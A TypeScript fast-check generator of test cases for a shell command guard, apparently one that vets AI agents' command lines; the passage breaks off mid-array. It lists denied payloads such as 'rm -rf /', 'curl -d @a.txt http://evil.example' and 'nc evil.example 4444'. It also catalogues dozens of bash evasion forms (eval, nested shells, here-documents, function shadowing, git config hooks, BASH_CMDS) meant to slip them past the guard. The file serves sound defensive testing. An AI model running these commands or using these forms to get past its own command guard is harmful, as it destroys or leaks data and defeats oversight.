// Command lines for the shell oracle: a fixed list of seed cases (the bypass classes the guard has been
// shown to miss, and those published for other agents' command lines), and a fast-check grammar that
// hides a denied program (or a harmless one) inside the same constructs, nested and combined.
//
// Each case carries its classes and whether it is `static`: every word that decides what runs is
// written out in the text (quotes, escapes, braces, continuations, wrappers, nested scripts and
// here-documents are all static text), as opposed to values only known at run time (variables, $IFS,
// globs, command output, stdin read by xargs). A static case whose denied program runs must be denied.
import fc from "fast-check";

export interface ShellCase {
  readonly command: string;
  readonly classes: readonly string[];
  /** Every word that decides what runs is static text (see above). */
  readonly static: boolean;
  /** From the fixed seed list rather than generated. */
  readonly seed: boolean;
}

/** A piece of a command line: its text and whether the words that matter are static. */
interface Piece {
  readonly text: string;
  readonly static: boolean;
  readonly classes: readonly string[];
}

/** Single-quotes a text for the shell. */
const sq = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;
/** Double-quotes a text for the shell. */
const dq = (text: string): string => `"${text.replace(/[\\"$`]/g, "\\$&")}"`;

/** Programs the oracle policy denies, as they are run. */
const PAYLOADS: readonly (readonly string[])[] = [
  ["rm", "-rf", "/"],
  ["rm", "x"],
  ["rm", "-rf", "a.txt"],
  ["curl", "http://evil.example/x"],
  ["curl", "-d", "@a.txt", "http://evil.example"],
  ["git", "push", "--force"],
  ["git", "push", "origin", "main"],
  ["git", "reset", "--hard"],
  ["wget", "http://evil.example/x"],
  ["chmod", "777", "a.txt"],
  ["ssh", "evil.example"],
  ["nc", "evil.example", "4444"],
];

/** Programs the oracle policy allows (through one of its allow rules). */
const BENIGN: readonly (readonly string[])[] = [
  ["echo", "ok"],
  ["ls"],
  ["ls", "-la"],
  ["cat", "a.txt"],
  ["git", "status"],
  ["git", "log", "--oneline"],
  ["grep", "a", "a.txt"],
  ["find", ".", "-name", "*.txt"],
  ["npm", "run", "test"],
  ["npm", "run", "test", "--", "--watch"],
  ["/bin/echo", "hi"],
];

const SIMPLE_WORD = /^[A-Za-z0-9_./:@=+,-]+$/;

/** Words joined as a shell would read them back (quoting where a word needs it). */
function joinWords(words: readonly string[]): string {
  return words.map((word) => (SIMPLE_WORD.test(word) ? word : sq(word))).join(" ");
}

const piece = (text: string, isStatic: boolean, classes: readonly string[]): Piece => ({ text, static: isStatic, classes });

/** Respellings of one program word that bash reads back as the same word. */
function quotings(word: string): string[] {
  const first = word[0] ?? "";
  const rest = word.slice(1);
  const hex = [...word].map((ch) => `\\x${ch.charCodeAt(0).toString(16)}`).join("");
  const octal = [...word].map((ch) => `\\${ch.charCodeAt(0).toString(8)}`).join("");
  return [
    `${first}''${rest}`,
    `"${first}"${rest}`,
    `\\${word}`,
    `$'${hex}'`,
    `$'${octal}'`,
    `""${word}`,
    `'${word}'`,
    `${first}\\${rest}`,
    `$"${word}"`,
    `${first}""${rest}''`,
  ];
}

const base = (word: string) => word.slice(word.lastIndexOf("/") + 1);

type Transform = (inner: Piece, words: readonly string[]) => fc.Arbitrary<Piece>;

const oneOf = <T>(items: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...items);

/** Every redirection operator form, descriptors 0-10: bash completes each before the command's next word. */
const DESCRIPTOR_REDIRECTIONS: readonly string[] = [
  "0</dev/null",
  "0<a.txt",
  "<a.txt",
  "1>/dev/null",
  ">out.txt",
  "2>/dev/null",
  "2>>log.txt",
  ">>log.txt",
  "2>&1",
  "1>&2",
  ">&2",
  "2>&-",
  "1>&-",
  ">&-",
  "0<&-",
  "<&-",
  "3>&-",
  "10>&-",
  "9>out.txt",
  "3<a.txt",
  "4<>a.txt",
  "<>a.txt",
  "0<>a.txt",
  ">|out.txt",
  "1>|out.txt",
  "&>/dev/null",
  "&>>log.txt",
  ">&out.txt",
  "{fd}>out.txt",
  "{fd}<a.txt",
  "{fd}>&-",
  "0<<<x",
  "<<<x",
  "5<<<x",
  "3>&1",
  "2>&1-",
  "8<&0",
  "7>&1-",
  "6<&-",
  // A quoted or escaped number, or one apart from the operator, is a word of the command.
  '"2">/dev/null',
  "\\0</dev/null",
  "'1'>out.txt",
  "2 >/dev/null",
];

/** Transforms that need the inner command as words (they respell words). */
const WORD_TRANSFORMS: Readonly<Record<string, (words: readonly string[]) => fc.Arbitrary<Piece>>> = {
  quoting: (words) =>
    fc.tuple(fc.nat(9), fc.nat(9), fc.boolean()).map(([a, b, both]) => {
      const out = [...words];
      out[0] = quotings(words[0] ?? "")[a] ?? out[0] ?? "";
      if (both && words.length > 1 && SIMPLE_WORD.test(words[1] ?? "")) out[1] = quotings(words[1] ?? "")[b] ?? out[1] ?? "";
      return piece(out.map((w, i) => (i === 0 || (both && i === 1) ? w : joinWords([w]))).join(" "), true, ["quoting"]);
    }),
  "continuation-in-word": (words) =>
    fc.tuple(fc.nat(words.length - 1), fc.nat(20), fc.boolean()).map(([index, at, crlf]) => {
      const word = words[index] ?? "";
      const cut = word.length < 2 ? word.length : 1 + (at % (word.length - 1));
      const out = words.map((w) => joinWords([w]));
      if (SIMPLE_WORD.test(word)) out[index] = `${word.slice(0, cut)}\\${crlf ? "\n" : "\n"}${word.slice(cut)}`;
      return piece(out.join(" "), true, ["continuation"]);
    }),
  brace: (words) =>
    fc.constant(
      words.length >= 2 && words.every((w) => /^[A-Za-z0-9_./:@=+-]+$/.test(w))
        ? piece(`{${words.join(",")}}`, true, ["brace"])
        : piece(joinWords(words), true, []),
    ),
  glob: (words) =>
    oneOf([`/bin/${words[0]}`, `/???/${words[0]}`, `/b??/${words[0]}`, `/usr/bin/${(words[0] ?? "").slice(0, -1)}[${(words[0] ?? "").slice(-1)}]`, `/*/bin/${words[0]}`, `/usr/local/bin/${words[0]}`]).map((program) =>
      piece([program, ...words.slice(1).map((w) => joinWords([w]))].join(" "), !/[*?[]/.test(program), ["glob"]),
    ),
  ifs: (words) =>
    oneOf(["${IFS}", "$IFS", " ${IFS}"]).chain((sep) =>
      oneOf([
        piece(words.map((w) => joinWords([w])).join(sep), false, ["ifs"]),
        piece(`${(words[0] ?? "").includes("/") ? words[0] : `\${PATH:0:1}bin\${PATH:0:1}${words[0]}`} ${joinWords(words.slice(1))}`, false, ["ifs"]),
        piece(`X=${joinWords([words[0] ?? ""])}; $X ${joinWords(words.slice(1))}`, false, ["ifs"]),
        piece(`$(echo ${joinWords([words[0] ?? ""])}) ${joinWords(words.slice(1))}`, false, ["ifs", "substitution"]),
        piece(`\`printf %s ${joinWords([words[0] ?? ""])}\` ${joinWords(words.slice(1))}`, false, ["ifs", "substitution"]),
      ]),
    ),
  "hash-p": (words) =>
    oneOf(["ls", "echo", "cat", "git"]).map((alias) =>
      piece(`hash -p /usr/bin/${joinWords([base(words[0] ?? "")])} ${alias}; ${alias} ${joinWords(words.slice(1))}`, true, ["shell-hooks"]),
    ),
  "env-split": (words) => fc.constant(piece(`env -S ${sq(joinWords(words))}`, true, ["wrapper"])),
  xargs: (words) =>
    oneOf([
      piece(`echo x | xargs ${joinWords(words)}`, true, ["xargs"]),
      piece(`xargs ${joinWords(words)} < /dev/null`, true, ["xargs"]),
      piece(`xargs -a list.txt ${joinWords(words)}`, true, ["xargs"]),
      piece(`xargs -0 -a zero.list ${joinWords(words)}`, true, ["xargs"]),
      piece(`printf 'a.txt\\n' | xargs -I{} ${joinWords(words)} {}`, true, ["xargs"]),
      piece(`echo a b | xargs -n 1 ${joinWords(words)}`, true, ["xargs"]),
      piece(`echo ${joinWords(words.slice(1))} | xargs ${joinWords(words.slice(0, 1))}`, words.length <= 1 || (words[0] !== "git"), ["xargs"]),
    ]),
  find: (words) =>
    oneOf([
      piece(`find . -name a.txt -exec ${joinWords(words)} {} \\;`, true, ["find"]),
      piece(`find . -name '*.txt' -exec ${joinWords(words)} {} +`, true, ["find"]),
      piece(`find . -maxdepth 1 -name x -execdir ${joinWords(words)} \\;`, true, ["find"]),
      piece(`find . -name y -ok ${joinWords(words)} \\;`, true, ["find"]),
      piece(`find . -maxdepth 0 -exec sh -c ${sq(joinWords(words))} \\;`, true, ["find", "nested-shell"]),
      piece(`find . -name x -delete -o -name y -exec ${joinWords(words)} \\;`, true, ["find"]),
    ]),
  interpreter: (words) =>
    oneOf([
      piece(`awk ${sq(`BEGIN{system(${JSON.stringify(joinWords(words))})}`)}`, false, ["interpreter"]),
      piece(`sed -n ${sq(`1e ${joinWords(words)}`)} a.txt`, false, ["interpreter"]),
      piece(`tar -cf /dev/null a.txt --checkpoint=1 --checkpoint-action=exec=${sq(joinWords(words))}`, true, ["interpreter"]),
      piece(`git -c alias.x=${sq(`!${joinWords(words)}`)} x`, true, ["git-options", "interpreter"]),
      piece(`git -c core.sshCommand=${sq(joinWords(words))} ls-remote ssh://host/repo`, true, ["git-options", "interpreter"]),
      piece(`git -c core.fsmonitor=${sq(joinWords(words))} status`, true, ["git-options", "interpreter"]),
      piece(`git grep --no-index --open-files-in-pager=${sq(joinWords(words))} alpha`, false, ["git-options", "interpreter"]),
      piece(`tar -I ${sq(joinWords(words))} -cf out.tar a.txt`, true, ["interpreter"]),
      piece(`tar --use-compress-program=${sq(joinWords(words))} -cf out.tar a.txt`, true, ["interpreter"]),
      piece(`env --split-string=${sq(joinWords(words))}`, true, ["wrapper"]),
    ]),
  // Redirections placed before and between the command's words: bash completes each before the next
  // word (`git 2>&- push` is `git push`, `git 0</dev/null push` too); a quoted number is a word.
  descriptor: (words) =>
    fc.tuple(fc.array(fc.tuple(fc.nat(words.length), oneOf(DESCRIPTOR_REDIRECTIONS)), { minLength: 1, maxLength: 2 }), fc.boolean()).map(([inserts, space]) => {
      const out: string[][] = words.map((w) => [joinWords([w])]);
      const before: string[] = [];
      for (const [at, redirect] of inserts) {
        const text = space ? redirect.replace(/^([0-9]*[<>&|]+-?)(?=[^<>&|-])/, "$1 ") : redirect;
        if (at === 0) before.push(text);
        else out[at - 1]?.push(text);
      }
      return piece([...before, ...out.flat()].join(" "), true, ["descriptor"]);
    }),
  // Words after a here-document's or here-string's start on the same line are the command's own
  // (`git <<EOF push` is `git push`).
  "heredoc-words": (words) =>
    fc.tuple(fc.nat(Math.max(0, words.length - 1)), oneOf(["<<EOF", "<<-EOF", "<<'EOF'", '<<"EOF"', "2<<EOF", "<<<x", "0<<< 'x y'"])).map(([at, redirect]) => {
      const quoted = words.map((w) => joinWords([w]));
      const line = [...quoted.slice(0, at + 1), redirect, ...quoted.slice(at + 1)].join(" ");
      return piece(redirect.includes("<<<") ? line : `${line}\nbody\nEOF`, true, ["heredoc"]);
    }),
  // A word after the program respelled with what the shell replaces when it runs: an empty expansion
  // (`x` is unset), an empty substitution, or a file name pattern the working directory's files match
  // (`pu?h` is push, a file there): `git p${x}ush` runs `git push`.
  "expansion-in-word": (words) =>
    fc.tuple(fc.nat(Math.max(0, words.length - 2)), fc.nat(20), oneOf(["${x}", "$x", "$(true)", "${x:-}", '"$x"', "`true`", "?", "[?]", "*"])).map(([index, at, inserted]) => {
      const out = words.map((w) => joinWords([w]));
      const i = index + 1;
      const word = words[i];
      if (word === undefined || !SIMPLE_WORD.test(word) || word.length < 2) return piece(out.join(" "), true, []);
      const cut = at % word.length;
      // A pattern character stands for the letter it replaces (`pu?h`); an expansion goes in between (`pu${x}sh`).
      out[i] = /^[?*[]/.test(inserted) ? `${word.slice(0, cut)}${inserted === "[?]" ? `[${word[cut]}]` : inserted}${inserted === "*" ? "" : word.slice(cut + 1)}` : `${word.slice(0, cut)}${inserted}${word.slice(cut)}`;
      return piece(out.join(" "), false, ["expansion"]);
    }),
  // bash's table of command paths and zsh's =NAME: the program is named by a value, not the word.
  "command-table": (words) =>
    oneOf(["ls", "echo", "cat", "git"]).chain((alias) =>
      oneOf([
        piece(`BASH_CMDS[${alias}]=/bin/${joinWords([base(words[0] ?? "")])}; ${alias} ${joinWords(words.slice(1))}`, false, ["command-table"]),
        piece(`read 'BASH_CMDS[${alias}]' <<< /bin/${joinWords([base(words[0] ?? "")])}; ${alias} ${joinWords(words.slice(1))}`, false, ["command-table"]),
        piece(`printf -v 'BASH_CMDS[${alias}]' /bin/${joinWords([base(words[0] ?? "")])}; ${alias} ${joinWords(words.slice(1))}`, false, ["command-table"]),
        piece(`BASH_CMDS+=([${alias}]=/bin/${joinWords([base(words[0] ?? "")])}); ${alias} ${joinWords(words.slice(1))}`, false, ["command-table"]),
        piece(`declare -A BASH_CMDS=([${alias}]=/bin/${joinWords([base(words[0] ?? "")])}); ${alias} ${joinWords(words.slice(1))}`, false, ["command-table"]),
        // zsh: =NAME is the path of NAME (bash and sh look for a program named =NAME).
        piece(`=${joinWords([base(words[0] ?? "")])} ${joinWords(words.slice(1))}`, true, ["command-table"]),
      ]),
    ),
};

/** Transforms of a whole command (any text). */
const TEXT_TRANSFORMS: Readonly<Record<string, Transform>> = {
  separator: (inner) =>
    fc.tuple(oneOf(BENIGN), oneOf(["; ", " && ", " || ", " | ", " & ", "\n", ";\n", "\r\n", " &\n", ";;"]), fc.boolean()).map(([benign, sep, before]) =>
      piece(before ? `${joinWords(benign)}${sep}${inner.text}` : `${inner.text}${sep}${joinWords(benign)}`, inner.static, ["separator"]),
    ),
  continuation: (inner) =>
    fc.tuple(oneOf(BENIGN), oneOf([" \\\r\n", "\\\r\n", " \\\n", "\r", "\r\n", " \\\r\n\r\n"])).map(([benign, cont]) => piece(`${joinWords(benign)}${cont}${inner.text}`, inner.static, ["continuation"])),
  substitution: (inner) =>
    oneOf([
      `echo $(${inner.text})`,
      `echo \`${inner.text.replace(/[\\`$]/g, "\\$&")}\``,
      `echo "$(${inner.text})"`,
      `x=$(${inner.text})`,
      `: $(${inner.text})`,
      `ls $(${inner.text}) 2>/dev/null`,
      `cat <(${inner.text})`,
      `echo >(${inner.text})`,
      `echo "\${x:-$(${inner.text})}"`,
    ]).map((text) => piece(text, inner.static, ["substitution"])),
  group: (inner) =>
    fc.tuple(oneOf([`(${inner.text})`, `{ ${inner.text}; }`, `( echo ok; ${inner.text} )`, `{ ls;\n${inner.text}\n}`]), fc.constant(0)).map(([text]) => piece(text, inner.static, ["group"])),
  function: (inner) =>
    oneOf([
      piece(`f(){ ${inner.text}; }; f`, inner.static, ["function"]),
      piece(`function f { ${inner.text}; }; f`, inner.static, ["function"]),
      piece(`f() ( ${inner.text} ); f x`, inner.static, ["function"]),
      // The program reaches the function as its arguments: only data flow shows it runs.
      piece(`g(){ "$@"; }; g ${inner.text}`, false, ["function"]),
      // A function named like an allowed program or a builtin runs in its place.
      piece(`ls(){ ${inner.text}; }; ls`, inner.static, ["function"]),
      piece(`echo(){ ${inner.text}; }; echo ok`, inner.static, ["function"]),
      piece(`git(){ ${inner.text}; }; git status`, inner.static, ["function"]),
      piece(`function cat { ${inner.text}; }; cat a.txt`, inner.static, ["function"]),
      piece(`cd(){ ${inner.text}; }; cd /tmp`, inner.static, ["function"]),
      piece(`f(){ ls; }; f(){ ${inner.text}; }; f`, inner.static, ["function"]),
      piece(`f(){ ${inner.text}; }; export -f f; bash -c f`, inner.static, ["function"]),
      piece(`f(){ ${inner.text}; } > /dev/null; f`, inner.static, ["function"]),
      piece(`f() if true; then ${inner.text}; fi; f`, inner.static, ["function"]),
      piece(`f() for i in 1; do ${inner.text}; done; f`, inner.static, ["function"]),
      piece(`f() { ${inner.text}; }; declare -F f > /dev/null && f`, inner.static, ["function"]),
    ]),
  eval: (inner) =>
    oneOf([`eval ${sq(inner.text)}`, `eval ${dq(inner.text)}`, `command eval ${sq(inner.text)}`, `builtin eval ${sq(inner.text)}`, `eval "eval ${sq(inner.text).replace(/[\\"$`]/g, "\\$&")}"`]).map((text) =>
      piece(text, inner.static, ["eval"]),
    ),
  "nested-shell": (inner) =>
    oneOf([
      `bash -c ${sq(inner.text)}`,
      `sh -c ${sq(inner.text)}`,
      `bash -lc ${sq(inner.text)}`,
      `sh -ec ${sq(inner.text)}`,
      `/bin/sh -c ${dq(inner.text)}`,
      `bash --norc -c ${sq(inner.text)} x`,
      `env sh -c ${sq(inner.text)}`,
      `bash -o errexit -c ${sq(inner.text)}`,
      `dash -c ${sq(inner.text)}`,
    ]).map((text) => piece(text, inner.static, ["nested-shell"])),
  source: (inner) =>
    // Here-strings and here-documents are script text in the line; <(echo ...) is a program's output (dynamic).
    oneOf([
      piece(`source /dev/stdin <<<${sq(inner.text)}`, inner.static, ["source"]),
      piece(`. /dev/stdin <<EOF\n${inner.text}\nEOF`, inner.static, ["source"]),
      piece(`source <(echo ${sq(inner.text)})`, false, ["source"]),
      piece(`. <(printf '%s\\n' ${sq(inner.text)})`, false, ["source"]),
    ]),
  heredoc: (inner) =>
    oneOf([
      `sh <<EOF\n${inner.text}\nEOF`,
      `bash <<'EOF'\n${inner.text}\nEOF`,
      `sh <<-EOF\n\t${inner.text}\n\tEOF`,
      `bash <<< ${sq(inner.text)}`,
      `sh <<<${dq(inner.text)}`,
      `cat <<EOF | sh\n${inner.text}\nEOF`,
      `cat <<EOF\n$(${inner.text})\nEOF`,
      `cat <<EOF\n\`${inner.text.replace(/[\\`$]/g, "\\$&")}\`\nEOF`,
      `cat <<'EOF'\n$(${inner.text})\nEOF`,
      `bash -s <<EOF\n${inner.text}\nEOF`,
    ]).map((text) => piece(text, inner.static && !text.startsWith("cat <<'EOF'"), ["heredoc"])),
  subscript: (inner) =>
    oneOf([
      `printf -v ${sq(`a[$(${inner.text})]`)} x`,
      `(( a[$(${inner.text})] ))`,
      `declare -a a; a[$(${inner.text})]=1`,
      `declare -a ${sq(`b[$(${inner.text})]=1`)}`,
      `read ${sq(`a[$(${inner.text})]`)} <<< x`,
      `: $(( a[$(${inner.text})] ))`,
      `let ${sq(`a[$(${inner.text})]`)}`,
      `[[ -v a[$(${inner.text})] ]]`,
      `test -v ${sq(`a[$(${inner.text})]`)}`,
    ]).map((text) => piece(text, inner.static, ["subscript"])),
  wrapper: (inner) =>
    oneOf([
      "sudo --user root",
      "sudo -u root",
      "sudo -E",
      "timeout --signal KILL 5",
      "timeout -s KILL 5",
      "timeout 5",
      "timeout -k 1 5",
      "env -i",
      "env X=1",
      "env -u HOME",
      "env --",
      "nice --adjustment 5",
      "nice -n 5",
      "nice",
      "setsid",
      "setsid -f",
      "flock /tmp/l",
      "flock -w 1 /tmp/l",
      "command",
      "command -p",
      "exec",
      "time",
      "time -p",
      "nohup",
      "stdbuf -o0",
      "stdbuf -oL -e0",
      "ionice -c3",
      "ionice -c 3",
      "coproc",
      "doas",
      "chronic",
      "xargs",
      "busybox",
      "env nice -n 1",
      "timeout 5 nohup",
      "sudo timeout -s KILL 5",
      "exec -a ls",
      "builtin command",
    ]).map((wrapper) => piece(`${wrapper} ${inner.text}`, inner.static, ["wrapper"])),
  "string-wrapper": (inner) =>
    oneOf([
      `su -c ${sq(inner.text)}`,
      `su root -c ${sq(inner.text)}`,
      `script -qc ${sq(inner.text)} /dev/null`,
      `flock /tmp/l -c ${sq(inner.text)}`,
      `watch -e -t -n 0.1 ${sq(`${inner.text}; false`)}`,
      `env -S ${sq(inner.text)}`,
      `busybox sh -c ${sq(inner.text)}`,
    ]).map((text) => piece(text, inner.static, ["wrapper"])),
  "shell-hooks": (inner) =>
    oneOf([
      piece(`shopt -s expand_aliases; alias ls=${sq(inner.text)}\nls`, inner.static, ["shell-hooks"]),
      piece(`trap ${sq(inner.text)} EXIT`, inner.static, ["shell-hooks"]),
      piece(`trap ${sq(inner.text)} DEBUG; :`, inner.static, ["shell-hooks"]),
      piece(`BASH_ENV=<(echo ${sq(inner.text)}) bash -c ls`, false, ["shell-hooks"]),
      piece(`mapfile -C ${sq(inner.text)} -c 1 a <<< x`, inner.static, ["shell-hooks"]),
      piece(`[[ 1 -eq ${sq(`a[$(${inner.text})]`)} ]]`, inner.static, ["shell-hooks", "subscript"]),
      piece(`x=${sq(`$(${inner.text})`)}; : \${x@P}`, false, ["shell-hooks"]),
    ]),
  redirection: (inner) =>
    oneOf([
      `${inner.text} > /dev/null`,
      `${inner.text} 2>&1`,
      `> out.txt ${inner.text}`,
      `${inner.text} < a.txt`,
      `2>/dev/null ${inner.text}`,
      `${inner.text} >> log.txt 2>&1`,
      `0</dev/null ${inner.text}`,
      `2>&- ${inner.text}`,
      `0<&- ${inner.text}`,
      `{fd}>out.txt ${inner.text}`,
      `10>&- ${inner.text}`,
      `${inner.text} 3>&- 2>&1`,
      `${inner.text} &>> log.txt`,
      `${inner.text} >| out.txt`,
      `${inner.text} 1<>a.txt`,
      `${inner.text} 0<a.txt 2>&-`,
    ]).map((text) =>
      piece(text, inner.static, ["redirection"]),
    ),
  negation: (inner) => fc.constant(piece(`! ${inner.text}`, inner.static, ["negation"])),
  control: (inner) =>
    fc.tuple(oneOf(BENIGN), fc.nat(8)).map(([benign, pick]) => {
      const b = joinWords(benign);
      const forms = [
        `if ${b}; then ${inner.text}; fi`,
        `if ${inner.text}; then :; fi`,
        `for i in 1; do ${inner.text}; done`,
        `while ${inner.text}; do break; done`,
        `until ${inner.text}; do break; done`,
        `case x in x) ${inner.text};; esac`,
        `[[ -n x ]] && ${inner.text}`,
        `if false; then :; else ${inner.text}; fi`,
        `for f in *.txt; do ${inner.text}; done`,
      ];
      return piece(forms[pick] ?? forms[0] ?? "", inner.static, ["control"]);
    }),
  comment: (inner) =>
    fc.tuple(oneOf(BENIGN), fc.nat(3)).map(([benign, pick]) => {
      const b = joinWords(benign);
      const forms = [`${b} # note\n${inner.text}`, `${inner.text} # comment`, `echo a#b; ${inner.text}`, `${b} #\\\n${inner.text}`];
      return piece(forms[pick] ?? "", inner.static, ["comment"]);
    }),
  // The rest of a line after a here-document's marker (tree-sitter nests it in the redirection),
  // several here-documents on one line, here-documents on compound commands and inside $( ).
  "heredoc-line": (inner) =>
    fc.tuple(oneOf(BENIGN), fc.nat(40)).map(([benign, pick]) => {
      const b = joinWords(benign);
      const t = inner.text;
      const forms = [
        // The inner command on the marker's line.
        `cat <<EOF && ${t}\nhi\nEOF`,
        `false <<EOF || ${t}\nhi\nEOF`,
        `cat <<EOF > f.txt; ${t}\nhi\nEOF`,
        `cat <<EOF 2>/dev/null | ${t}\nhi\nEOF`,
        `cat <<EOF |& ${t}\nhi\nEOF`,
        `cat <<EOF & ${t}\nhi\nEOF`,
        `cat <<A <<B && ${t}\na\nA\nb\nB`,
        `cat <<A && cat <<B; ${t}\na\nA\nb\nB`,
        `cat <<'EOF' || true; ${t}\n$(x)\nEOF`,
        `${b} <<EOF >> log.txt && ${t}\nhi\nEOF`,
        `{ cat; } <<EOF && ${t}\nhi\nEOF`,
        `( cat ) <<EOF || true; ${t}\nhi\nEOF`,
        `if true; then cat; fi <<EOF; ${t}\nhi\nEOF`,
        `while read -r l; do :; done <<EOF; ${t}\nhi\nEOF`,
        `x=$(cat <<EOF && ${t}\nhi\nEOF\n)`,
        `echo "$(cat <<EOF\nhi\nEOF\n)"; ${t}`,
        `cat <<EOF\nhi\nEOF\n${t}`,
        `${b} <<<x && ${t}`,
        // The inner command in a document a shell reads.
        `sh <<A; ${b} <<B\n${t}\nA\nhi\nB`,
        `${b} <<A; sh <<B\nhi\nA\n${t}\nB`,
        `sh <<A <<B\nhi\nA\n${t}\nB`,
        `cat <<A <<B | sh\nhi\nA\n${t}\nB`,
        `{ sh; } <<EOF\n${t}\nEOF`,
        `( bash ) <<EOF\n${t}\nEOF`,
        `if true; then sh; fi <<'EOF'\n${t}\nEOF`,
        `for i in 1; do sh; done <<EOF\n${t}\nEOF`,
        `f(){ sh; }; f <<EOF\n${t}\nEOF`,
        `x=$(sh <<EOF\n${t}\nEOF\n)`,
        `echo $(bash <<'EOF'\n${t}\nEOF\n)`,
        `sh <<EOF && ${b}\n${t}\nEOF`,
        `bash <<EOF | ${b}\n${t}\nEOF`,
        `sh 0<<EOF\n${t}\nEOF`,
        `sh 2>/dev/null <<EOF\n${t}\nEOF`,
        `sh <<EOF 2>&1 >/dev/null\n${t}\nEOF`,
        `bash -s -- x <<EOF\n${t}\nEOF`,
        `sh /dev/stdin <<"E"OF\n${t}\nEOF`,
        `sh <<\\EOF\n${t}\nEOF`,
        `exec 3<<EOF\n${t}\nEOF\nsh <&3`,
        `sh 3<<EOF 0<&3\n${t}\nEOF`,
        `cat <<EOF | sh && ${b}\n${t}\nEOF`,
        `cat << 'EOF' |& bash\n${t}\nEOF`,
      ];
      const text = forms[pick] ?? forms[0] ?? "";
      // `sh <&3`: the shell reads what descriptor 3 holds, opened by an earlier command (run-time state).
      return piece(text, inner.static && !text.includes("sh <&3"), ["heredoc-line"]);
    }),
  // Output and input process substitutions: as redirection targets, as arguments, holding the inner command.
  "process-substitution": (inner) =>
    fc.tuple(oneOf(BENIGN), fc.nat(29)).map(([benign, pick]) => {
      const b = joinWords(benign);
      const t = inner.text;
      const q = sq(t);
      const forms: [string, boolean][] = [
        // What the line writes to >(sh), or a shell reads from <(…).
        [`echo ${q} > >(sh)`, true],
        [`echo ${q} 1> >(bash)`, true],
        [`echo ${q} >> >(sh)`, true],
        [`echo ${q} >| >(sh -s)`, true],
        [`echo ${q} &> >(sh)`, true],
        [`printf '%s\\n' ${q} > >(sh)`, true],
        [`{ echo ${q}; } > >(sh)`, true],
        [`for i in 1; do echo ${q}; done > >(bash)`, true],
        [`echo ${q} 3>&1 1> >(sh)`, true],
        [`echo ${q} | tee >(sh) > /dev/null`, true],
        [`tee >(sh) <<< ${q} > /dev/null`, true],
        [`sh < <(echo ${q})`, true],
        [`bash 0< <(printf '%s\\n' ${q})`, true],
        [`sh <(echo ${q})`, false],
        [`exec > >(sh); echo ${q}`, false],
        [`exec 3> >(sh); echo ${q} >&3`, false],
        [`exec {fd}> >(bash); echo ${q} >&$fd`, false],
        [`echo ${q} > >(xargs -I{} sh -c '{}')`, false],
        // The inner command inside the substitution.
        [`${b} > >(${t})`, true],
        [`${b} 2> >(${t})`, true],
        [`tee >(${t}) < a.txt > /dev/null`, true],
        [`diff <(${t}) a.txt`, true],
        [`${b} < <(${t})`, true],
        [`exec 3< <(${t})`, true],
        [`wc -l <(${t})`, true],
        [`${b} | tee >(${t})`, true],
        [`: > >(${t})`, true],
        [`{ ${b}; } > >(${t})`, true],
        [`x=<(${t}) ${b}`, true],
        [`${b} >(${t}) <(${t})`, true],
      ];
      const [text, isStatic] = forms[pick] ?? forms[0] ?? ["", true];
      return piece(text, isStatic && inner.static, ["process-substitution"]);
    }),
  // Variables set by builtins (read, printf -v, mapfile, for, ${:=}, declare, allexport, namerefs)
  // that programs run: git's GIT_SSH_COMMAND and config from the environment, bash's BASH_ENV and PS4.
  "variable-set": (inner) =>
    fc.tuple(fc.nat(7), fc.nat(16)).map(([target, how]) => {
      const t = `${inner.text};`;
      const literal = !/[%\\]/.test(t);
      const [name, value, run] = (
        [
          // core.sshCommand=: where the variable is not set (sh has no read <<<, declare, typeset, ...): git would run ssh itself.
          ["GIT_SSH_COMMAND", t, "git -c core.sshCommand=: ls-remote ssh://host/repo"],
          ["GIT_SSH_COMMAND", t, "git -c core.sshCommand=: fetch ssh://host/repo"],
          ["GIT_PROXY_COMMAND", t, "git ls-remote git://host/repo"],
          ["BASH_ENV", `$(${inner.text})`, "bash -c ls"],
          ["BASH_ENV", `\`${inner.text}\``, "bash -c 'echo ok'"],
          ["PS4", `$(${inner.text})`, "set -x; ls"],
          ["GIT_CONFIG_VALUE_0", t, "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand; git ls-remote ssh://host/repo"],
          ["GIT_CONFIG_VALUE_0", t, "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor; git status"],
        ] as const
      )[target] ?? ["GIT_SSH_COMMAND", t, "git -c core.sshCommand=: ls-remote ssh://host/repo"];
      const v = sq(value);
      const exp = `export ${name}; `;
      const forms: [string, boolean][] = [
        [`read ${name} <<< ${v}; ${exp}${run}`, false],
        [`IFS= read -r ${name} <<< ${v}; ${exp}${run}`, false],
        [`read -r ${name} < <(echo ${v}); ${exp}${run}`, false],
        [`{ read ${name}; } <<EOF\n${value}\nEOF\n${exp}${run}`, false],
        [`printf -v ${name} ${v}; ${exp}${run}`, literal],
        [`printf -v ${name} '%s' ${v}; ${exp}${run}`, false],
        [`: \${${name}:=${v}}; ${exp}${run}`, true],
        [`${exp}: \${${name}=${v}}; ${run}`, true],
        [`for ${name} in ${v}; do ${exp}${run}; done`, true],
        [`command export ${name}=${v}; ${run}`, true],
        [`builtin declare -x ${name}=${v}; ${run}`, true],
        [`typeset -x ${name}=${v}; ${run}`, true],
        [`set -a; ${name}=${v}; ${run}`, true],
        [`set -o allexport; ${name}=${v}; ${run}`, true],
        [`declare -n r=${name}; r=${v}; ${exp}${run}`, true],
        [`f(){ local -x ${name}=${v}; ${run}; }; f`, true],
        [`mapfile -t ${name} <<< ${v}; ${exp}${run}`, false],
      ];
      const [text, isStatic] = forms[how] ?? forms[0] ?? ["", false];
      return piece(text, isStatic && inner.static, ["variable-set"]);
    }),
  // A variable named in arithmetic is evaluated, the command substitutions of a subscript in its value included.
  arithmetic: (inner) =>
    fc.tuple(fc.nat(8), fc.nat(13)).map(([set, use]) => {
      const value = sq(`a[$(${inner.text})]`);
      const literal = !/[%\\]/.test(inner.text);
      const sets: [string, boolean][] = [
        [`x=${value}; `, true],
        [`declare x=${value}; `, true],
        [`export x=${value}; `, true],
        [`for x in ${value}; do :; done; `, true],
        [`: \${x:=${value}}; `, true],
        [`printf -v x ${value}; `, literal],
        [`read x <<< ${value}; `, false],
        [`printf -v x '%s' ${value}; `, false],
        [`mapfile -t x <<< ${value}; `, false],
      ];
      const uses = [
        "echo $((x))",
        "(( x ))",
        "[[ x -lt 2 ]]",
        "[[ $x -eq 1 ]]",
        "let y=x",
        "declare -i y=x",
        "echo ${arr[x]}",
        "y[x]=1",
        "for ((i=x;0;)); do :; done",
